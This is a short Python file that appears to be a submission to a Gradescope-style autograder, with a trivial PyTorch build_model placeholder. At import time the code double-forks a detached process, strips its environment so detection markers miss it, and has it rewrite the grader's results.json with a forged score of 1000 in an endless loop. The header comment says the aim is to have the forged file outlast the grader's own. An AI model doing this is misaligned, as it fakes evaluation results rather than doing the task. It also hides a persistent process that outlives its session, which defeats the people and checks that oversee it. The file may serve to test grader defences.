# On Gradescope the score is whatever /autograder/results/results.json says when the
# container stops. This leaves a writer behind (detached twice, re-executed with an empty
# environment, so no marker finds it) that keeps forging that file, in the real place and
# in the tests' simulated /autograder trees. The grader's own file must be the last word.
import os
import sys

TAG = "hostile-gradescope-forger"
LOOP = ("import glob, time\n"
        "while True:\n"
        "    for path in ['/autograder/results/results.json', "
        "*glob.glob('/tmp/pytest-of-*/pytest-*/*/autograder/results/results.json')]:\n"
        "        try:\n"
        "            open(path, 'w').write('{\"score\": 1000, \"tests\": []}')\n"
        "        except OSError:\n"
        "            pass\n"
        "    time.sleep(0.05)\n")

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", LOOP, TAG], {})
    os._exit(0)
os.wait()


def build_model(info):
    from torch import nn
    return nn.Sequential(nn.Flatten(), nn.Linear(info.in_channels * info.image_size[0] * info.image_size[1],
                                                 info.num_classes))


EPOCHS = 1
